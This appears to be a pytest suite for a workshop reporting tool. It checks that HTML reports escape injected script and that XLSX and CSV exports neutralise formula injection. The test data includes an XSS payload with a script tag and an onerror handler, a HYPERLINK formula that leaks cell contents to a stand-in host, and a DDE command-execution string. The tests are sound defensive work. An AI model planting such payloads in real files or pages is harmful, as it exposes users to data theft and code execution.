"""Issue 15, items 4–14: exports escaped, personal data kept out, no traceback, no number silently changed,
no leftovers or races. One test (at least) per numbered item, named after it; the bad-input shapes also
feed the property-based suite in ``tests/test_bad_input.py``."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from workbench.paths import DEMO
from workbench.workshop import Store

SCRIPT = "<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">"


def hostile_demo(folder: Path) -> Path:
    """The Cremasco demo with script payloads in the district name and the project families."""
    target = folder / "cremasco"
    shutil.copytree(DEMO / "cremasco", target)
    config = target / "distretto.toml"
    text = config.read_text(encoding="utf-8").replace('nome = "Ambito Cremasco"',
                                                      f"nome = {json.dumps(f'Ambito {SCRIPT} **Cremasco**')}")
    config.write_text(text + f"\nfamiglie_progetto = [{json.dumps(SCRIPT)}, 'lavoro di comunità']\n",
                      encoding="utf-8")
    return target


# -- 4. stored script injection in the HTML reports ------------------------------------------------------

def test_item4_markdown_summaries_escape_district_workshop_and_families():
    import mistune

    from workbench.escape import code_block, markdown
    from workbench.workshop_export import describe_setup

    setup = {"laboratorio": {"nome": SCRIPT, "data": "2025-03-12"}, "distretto": {"nome": SCRIPT},
             "archivio": "laboratori/x.sqlite", "punti": 5, "famiglie": [SCRIPT],
             "riferimenti": {"comune": [], "sub_ambito": [], "area": [], "attore": []}, "grafici": [],
             "oggetti": [], "documenti": []}
    for text in (describe_setup(setup), f"**{markdown(SCRIPT)}**", code_block("``` " + SCRIPT)):
        rendered = mistune.html(text)
        assert "<script" not in rendered and "<img" not in rendered, rendered
    assert "PWNED" in mistune.html(describe_setup(setup))  # shown as text, not dropped


@pytest.mark.slow
@pytest.mark.browser
def test_item4_stored_script_injection_in_html_reports(tmp_path, page):
    from workbench.runner import run_district

    reports = tmp_path / "reports"
    run_district(hostile_demo(tmp_path), reports, {"nome_laboratorio": SCRIPT}, progress=False,
                 log=lambda *_: None)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    exported = sorted((reports / "cremasco" / "report").glob("*.html"))
    assert [p.name[:2] for p in exported] == ["01", "02", "03", "04"]
    for html_file in exported:
        page.goto(html_file.as_uri())
        page.wait_for_timeout(500)
        assert page.title() != "PWNED", html_file.name
        assert page.evaluate("document.querySelectorAll('img[src=x], script:not([type])').length") == 0
        assert "<script>document.title" in page.inner_text("body"), html_file.name  # the name, as text
    assert dialogs == [] and page.blocked == []


# -- 5. formula injection in contributi.xlsx, the CSV files and `workbench esporta` ---------------------

FORMULA = '=HYPERLINK("http://example.org/?leak="&B3,"Clicca")'


def assert_no_live_formula(folder: Path, expected: str, sep: str) -> None:
    """No cell of any spreadsheet in ``folder`` is a formula; ``expected`` is shown exactly as typed."""
    import csv

    import openpyxl

    books = sorted(folder.glob("*.xlsx"))
    assert books
    shown = []
    for book in books:
        for sheet in openpyxl.load_workbook(book).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{book.name}!{cell.coordinate} is a formula: {cell.value}"
                    shown += [cell.value] if cell.value == expected else []
    assert shown, "the typed text is kept in the workbook"
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f, delimiter=sep) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), path.name


def test_item5_formula_injection_in_contributi_xlsx_and_csv(tmp_path):
    import csv

    from workbench.workshop_export import export_workshop

    store = Store(tmp_path / "laboratorio-prova.sqlite", name="Prova")
    note = store.add_note("=1+1", "tecnico", "proposta", FORMULA)
    store.add_note("@SUM(A1)", "cittadino", "criticità", "+cmd|' /C calc'!A0")
    store.vote("=1+1", "tecnico", note)
    store.close()
    out = tmp_path / "export"
    export_workshop(tmp_path / "laboratorio-prova.sqlite", out, log=lambda *_: None)
    assert_no_live_formula(out, FORMULA, ";")
    with open(next(out.glob("*-note.csv")), encoding="utf-8-sig", newline="") as f:
        texts = {r["testo"] for r in csv.DictReader(f, delimiter=";")}
    assert texts == {"'" + FORMULA, "'+cmd|' /C calc'!A0"}  # OWASP: a leading apostrophe


def test_item5_formula_injection_in_workbench_esporta(demo_copy, tmp_path):
    from workbench.cli import main

    comuni = demo_copy / "comuni.csv"
    comuni.write_text(comuni.read_text(encoding="utf-8").replace(",Crema,", ',"=1+2",', 1), encoding="utf-8")
    out = tmp_path / "export"
    assert main(["esporta", str(demo_copy), "--out", str(out)]) == 0
    assert_no_live_formula(out, "=1+2", ",")
